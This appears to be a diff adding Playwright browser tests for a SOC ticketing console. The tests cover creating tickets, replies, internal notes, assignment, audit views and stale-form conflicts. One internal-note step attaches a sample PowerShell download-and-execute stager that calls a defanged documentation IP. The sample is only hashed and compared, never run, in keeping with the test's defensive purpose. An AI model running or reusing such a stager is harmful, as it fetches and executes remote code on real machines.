@@ -1,0 +1,163 @@
+"""The agent's journey through the console in a real Chromium, plus a stale-form refusal."""
+
+from __future__ import annotations
+
+import hashlib
+import re
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import expect
+
+from socdesk.core.testing import PERSONA_PASSWORD
+from socdesk.tickets.models import Ticket
+from tests.browser.conftest import sign_in
+
+pytestmark = pytest.mark.browser
+
+
+def test_journey_from_login_to_resolution(page, live_server, cast, screenshots):
+    base = live_server.url
+    page.set_viewport_size({"width": 1400, "height": 900})
+    page.goto(f"{base}/login")
+    page.screenshot(path=screenshots / "login.png")
+    sign_in(page, base, "alice", PERSONA_PASSWORD)
+    expect(page.get_by_role("heading", name="Queues")).to_be_visible()
+
+    # Create a ticket for a caller.
+    page.get_by_role("link", name="New ticket").click()
+    page.get_by_label("Requester email").fill("dana@example.test")
+    page.get_by_label("Requester name").fill("Dana Reyes")
+    page.get_by_label("Requester phone").fill("+1 555 0100")
+    page.get_by_label("Subject").fill("Phishing mail with macro attachment")
+    page.get_by_label("Department").select_option(label="SOC")
+    page.get_by_label("Severity").select_option(label="High")
+    page.get_by_label("Source").select_option(label="Phone")
+    page.get_by_label("Tags").fill("phishing, macro")
+    page.get_by_label("Description").fill("Caller forwarded a mail with a macro-enabled invoice.")
+    page.screenshot(path=screenshots / "new_ticket.png", full_page=True)
+    page.get_by_role("button", name="Open ticket").click()
+    expect(page.get_by_role("heading", name="Phishing mail with macro attachment")).to_be_visible()
+    ticket = Ticket.objects.get(subject="Phishing mail with macro attachment")
+    assert page.url.endswith(f"/tickets/{ticket.number}/")
+
+    # Reply to the requester (htmx swaps the ticket in place).
+    page.get_by_label("Message").fill("Thanks Dana, please do not open the attachment.")
+    page.get_by_role("button", name="Send reply").click()
+    expect(page.locator(".entry.reply")).to_contain_text("please do not open the attachment")
+    expect(page.get_by_role("status").first).to_contain_text("Reply sent.")
+
+    # Internal note, visibly distinct.
+    page.get_by_label("Message").fill("Macro drops a PowerShell stager; hash blocked on EDR.")
+    stager = b"IEX (New-Object Net.WebClient).DownloadString('hxxp://203.0.113.9/a')\n"
+    page.get_by_label("Attachments").set_input_files(
+        files=[{"name": "stager.ps1", "mimeType": "text/plain", "buffer": stager}]
+    )
+    page.get_by_role("button", name="Add internal note").click()
+    note = page.locator(".entry.note").last
+    expect(note).to_contain_text("PowerShell stager")
+    expect(note).to_contain_text(hashlib.sha256(stager).hexdigest())
+    with page.expect_download() as download_info:
+        note.get_by_role("link", name="stager.ps1").click()
+    download = download_info.value
+    assert download.suggested_filename == "stager.ps1"
+    assert Path(download.path()).read_bytes() == stager
+
+    # Assign to bob.
+    page.get_by_label("Assignee").select_option(label="Bob")
+    page.get_by_role("button", name="Assign").click()
+    expect(page.locator(".facts")).to_contain_text("Bob")
+
+    # Resolve as a false positive.
+    page.get_by_label("Status", exact=True).select_option(label="Resolved")
+    page.get_by_label("Resolution").select_option(label="False positive")
+    page.get_by_role("button", name="Set status").click()
+    expect(page.locator(".ticket-head .status")).to_have_text("Resolved")
+
+    history = page.get_by_role("list", name="History")
+    for step in (
+        "alice opened the ticket",
+        "alice replied",
+        "alice added an internal note",
+        "alice changed the assignment",
+        "alice changed the status from In progress to Resolved (false positive)",
+    ):
+        expect(history).to_contain_text(step)
+    page.screenshot(path=screenshots / "ticket.png", full_page=True)
+
+    # The landing page counts the ticket and lists bob's work for bob, not for alice.
+    page.goto(f"{base}/")
+    expect(page.locator('[data-queue-count="resolved"]')).to_have_text("1")
+    page.screenshot(path=screenshots / "landing.png")
+
+    # Queue with keyboard navigation: j moves, Enter opens, / focuses search.
+    page.goto(f"{base}/tickets/?queue=all")
+    expect(page.get_by_role("link", name=ticket.number)).to_be_visible()
+    page.screenshot(path=screenshots / "queue.png")
+    page.keyboard.press("j")
+    expect(page.locator("tr.row-focus")).to_contain_text(ticket.number)
+    page.keyboard.press("/")
+    expect(page.get_by_label("Search tickets")).to_be_focused()
+    page.keyboard.press("Escape")
+    page.keyboard.press("Enter")
+    page.wait_for_url(re.compile(rf".*/tickets/{ticket.number}/$"))
+
+    # Dark theme, remembered across page loads.
+    page.get_by_role("button", name="Toggle dark theme").click()
+    page.reload()
+    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
+    page.screenshot(path=screenshots / "dark_ticket.png", full_page=True)
+    page.goto(f"{base}/tickets/?queue=all")
+    page.screenshot(path=screenshots / "dark_queue.png")
+
+
+def test_audit_browser_for_admin(page, live_server, cast, screenshots):
+    page.set_viewport_size({"width": 1400, "height": 900})
+    sign_in(page, live_server.url, "admin", PERSONA_PASSWORD)
+    page.goto(f"{live_server.url}/audit/")
+    expect(page.get_by_text(re.compile(r"Chain verified up to seq \d+"))).to_be_visible()
+    expect(page.locator("table.audit")).to_contain_text("auth.login")
+    page.screenshot(path=screenshots / "audit.png")
+
+
+def test_stale_form_is_refused_and_keeps_the_typed_text(browser, live_server, cast, screenshots):
+    from socdesk.core.actor import Actor
+    from socdesk.tickets.services import ticket_create
+
+    ticket = ticket_create(
+        actor=Actor.for_agent(cast.alice), subject="Impossible travel for j.doe", department=cast.soc
+    )
+    base = live_server.url
+    alice_ctx, bob_ctx = browser.new_context(), browser.new_context()
+    try:
+        alice, bob = alice_ctx.new_page(), bob_ctx.new_page()
+        sign_in(alice, base, "alice", PERSONA_PASSWORD)
+        sign_in(bob, base, "bob", PERSONA_PASSWORD)
+        alice.goto(f"{base}/tickets/{ticket.number}/")
+        bob.goto(f"{base}/tickets/{ticket.number}/")
+        # Presence: bob's first heartbeat sees alice on the page.
+        expect(bob.locator("#presence-list")).to_contain_text("Alice is viewing")
+        bob.set_viewport_size({"width": 1400, "height": 700})
+        bob.screenshot(path=screenshots / "presence.png")
+
+        alice.get_by_label("Message").fill("Both logins came from a known VPN exit.")
+        bob.locator("summary", has_text="Severity and tags").click()
+        bob.get_by_label("Severity").select_option(label="Critical")
+        bob.get_by_role("button", name="Set severity").click()
+        expect(bob.locator(".ticket-head .sev")).to_have_text("Critical")
+
+        alice.get_by_role("button", name="Send reply").click()
+        alert = alice.get_by_role("alert")
+        expect(alert).to_contain_text("changed since you loaded it")
+        expect(alert).to_contain_text("bob changed the severity from Medium to Critical")
+        expect(alice.get_by_label("Message")).to_have_value("Both logins came from a known VPN exit.")
+        alice.set_viewport_size({"width": 1400, "height": 900})
+        alice.screenshot(path=screenshots / "stale_refusal.png")
+        assert not Ticket.objects.get(pk=ticket.pk).entries.filter(kind="reply").exists()
+
+        # The retry, now based on the current version, goes through.
+        alice.get_by_role("button", name="Send reply").click()
+        expect(alice.locator(".entry.reply")).to_contain_text("known VPN exit")
+    finally:
+        alice_ctx.close()
+        bob_ctx.close()
